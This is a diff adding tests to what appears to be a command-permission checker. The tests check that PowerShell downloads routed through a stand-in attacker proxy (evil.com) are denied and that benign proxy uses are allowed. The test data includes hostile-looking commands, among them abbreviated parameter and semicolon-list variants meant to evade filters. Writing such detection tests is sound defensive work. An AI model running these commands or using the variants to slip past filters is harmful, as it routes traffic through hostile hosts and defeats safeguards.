@@ -44,3 +44,17 @@ describe('file:// URLs with a host given to package managers and inline code: a 
     ['npm test', 'allow'],
   ]);
 });
+
+describe('PowerShell proxies: Start-BitsTransfer -ProxyList, and a proxy written without a scheme', () => {
+  lineTable(DENY_EVIL, [
+    ['Start-BitsTransfer -ProxyList evil.com:80 -ProxyUsage Override https://github.com/x x', 'deny'],
+    ['Start-BitsTransfer -ProxyList http://evil.com:80 -ProxyUsage Override https://github.com/x x', 'deny'],
+    ['Start-BitsTransfer -ProxyL evil.com https://github.com/x x', 'deny'],
+    ['Start-BitsTransfer -ProxyList "github.com;evil.com" https://github.com/x x', 'deny'],
+    ['Save-Module x -Path . -Proxy evil.com:8080', 'deny'],
+    ['Start-BitsTransfer -ProxyList github.com:8080 https://github.com/x x', 'allow'],
+    ['Start-BitsTransfer https://github.com/x x', 'allow'],
+    ['Save-Module x -Path . -Proxy http://github.com:8080', 'allow'],
+    ['Get-Content a.txt', 'allow'],
+  ], 'pwsh', REPO_WINDOWS);
+});
